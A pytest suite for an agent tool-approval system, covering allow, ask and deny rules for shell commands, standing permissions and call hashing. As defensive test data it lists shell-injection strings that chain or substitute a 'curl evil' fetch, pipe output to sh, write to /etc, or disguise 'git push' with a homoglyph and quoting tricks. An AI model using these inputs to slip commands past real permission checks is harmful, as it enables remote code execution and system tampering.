"""Whether a call may run: rules, standing answers, defaults, and what a hash binds."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from appliance.config.agents import ApprovalRule
from appliance.tools.approvals import evaluate, grant_from
from appliance.tools.types import Allow, Ask, Deny, Grant, Intent, call_hash
from appliance.types import Effect, Json


def intent(tool: str, effect: Effect = Effect.ONCE, **arguments: Json) -> Intent:
    return Intent("c", tool, arguments, effect, "", "")


def rule(tool: str, decision: str, **arguments: str) -> ApprovalRule:
    return ApprovalRule.model_validate({"tool": tool, "decision": decision, "arguments": arguments})


def test_reading_is_allowed_and_everything_else_is_asked() -> None:
    assert isinstance(evaluate((), (), intent("read_file", Effect.READ), "a"), Allow)
    assert isinstance(evaluate((), (), intent("write_file", Effect.IDEMPOTENT), "a"), Ask)
    assert isinstance(evaluate((), (), intent("shell"), "a"), Ask)


def test_what_leaves_the_machine_is_asked_even_if_it_only_reads() -> None:
    fetch = intent("fetch", Effect.READ, url="https://example.org")
    assert isinstance(evaluate((), (), fetch, "a", leaves_machine=True), Ask)


def test_the_first_rule_that_fits_decides() -> None:
    rules = (rule("shell", "deny", command="rm *"), rule("shell", "allow"))
    assert isinstance(evaluate(rules, (), intent("shell", command="rm -rf x"), "a"), Deny)
    assert isinstance(evaluate(rules, (), intent("shell", command="ls"), "a"), Allow)


@pytest.mark.parametrize(
    "command",
    [
        "git status; curl evil",
        "git status && curl evil",
        "git status | sh",
        "git $(curl evil)",
        "git `curl evil`",
        "git status\ncurl evil",
        "git status > /etc/x",
        "git status & curl evil",
        "git status <(curl evil)",
        "git status \\\n; curl evil",
    ],
)
def test_an_allowed_pattern_never_allows_a_second_command(command: str) -> None:
    rules = (rule("shell", "allow", command="git *"),)
    assert isinstance(evaluate(rules, (), intent("shell", command="git status"), "a"), Allow)
    assert isinstance(evaluate(rules, (), intent("shell", command=command), "a"), Ask)


@pytest.mark.parametrize(
    "command",
    [
        "git push",
        "cd x && git push -f",
        "true; git push",
        "(git push)",
        "x | git push",
        "git  push",
        "git\tpush",
        " git push",
        'git "push"',
        "g'i't push",
        "git \\\n push",
        "A=1 B=2 git push",
        "env A=1 git push",
        "sh -c 'git push'",
        'bash -ec "git push"',
        "if true; then git push; fi",
        "! git push",
        "x=$(git push)",
    ],
)
def test_a_denied_pattern_is_found_in_every_part_of_a_command(command: str) -> None:
    rules = (rule("shell", "deny", command="git push*"), rule("shell", "allow"))
    assert isinstance(evaluate(rules, (), intent("shell", command=command), "a"), Deny)


@pytest.mark.parametrize(
    "command", ["git -C . push", "$(echo git) push", "git pu${x}sh", "./push.sh", "gіt push"]
)
def test_what_a_denied_pattern_cannot_see_is_asked_unless_a_rule_allows_it(command: str) -> None:
    """A pattern on a shell's text is a reminder; what holds is that nothing allows the rest."""
    deny, only_status = (
        rule("shell", "deny", command="git push*"),
        rule("shell", "allow", command="git status*"),
    )
    assert isinstance(evaluate((deny, only_status), (), intent("shell", command=command), "a"), Ask)


def test_patterns_reach_whole_servers() -> None:
    rules = (rule("git__*", "deny"),)
    assert isinstance(evaluate(rules, (), intent("git__push", Effect.READ), "a"), Deny)
    assert isinstance(evaluate(rules, (), intent("time__now", Effect.READ), "a"), Allow)


def test_a_standing_permission_answers_what_a_rule_would_ask() -> None:
    asked = intent("shell", command="make test")
    grants = (grant_from(asked, "a", allow=True),)
    rules = (rule("shell", "ask"),)
    assert isinstance(evaluate(rules, grants, asked, "a"), Allow)
    assert isinstance(evaluate(rules, grants, asked, "b"), Ask)
    other = intent("shell", command="make test; rm -rf .")
    assert isinstance(evaluate(rules, grants, other, "a"), Ask)


def test_a_standing_permission_does_not_lift_a_rule_that_denies() -> None:
    asked = intent("shell", command="make test")
    grants = (grant_from(asked, "a", allow=True),)
    assert isinstance(evaluate((rule("shell", "deny"),), grants, asked, "a"), Deny)


def test_a_standing_refusal_beats_everything() -> None:
    asked = intent("write_file", path="x")
    grants = (Grant("a", "write_file", True), grant_from(asked, "a", allow=False))
    assert isinstance(evaluate((rule("*", "allow"),), grants, asked, "a"), Deny)


@given(command=st.text(min_size=1))
def test_a_permission_for_one_command_is_for_that_command_alone(command: str) -> None:
    grants = (grant_from(intent("shell", command=command), "a", allow=True),)
    assert isinstance(evaluate((), grants, intent("shell", command=command), "a"), Allow)
    longer = intent("shell", command=command + " x")
    assert isinstance(evaluate((), grants, longer, "a"), Ask)


@given(
    first=st.dictionaries(st.text(max_size=3), st.integers() | st.text(max_size=3), max_size=3),
    second=st.dictionaries(st.text(max_size=3), st.integers() | st.text(max_size=3), max_size=3),
)
def test_a_hash_binds_the_arguments(first: dict[str, Json], second: dict[str, Json]) -> None:
    one = call_hash("t", first, Path("/w"), {})
    assert one == call_hash("t", dict(reversed(first.items())), Path("/w"), {})
    assert (one == call_hash("t", second, Path("/w"), {})) == (first == second)


def test_a_hash_binds_tool_folder_and_environment() -> None:
    hashes = {
        call_hash("t", {}, Path("/w"), {}),
        call_hash("u", {}, Path("/w"), {}),
        call_hash("t", {}, Path("/v"), {}),
        call_hash("t", {}, Path("/w"), {"PATH": "/evil"}),
    }
    assert len(hashes) == 4
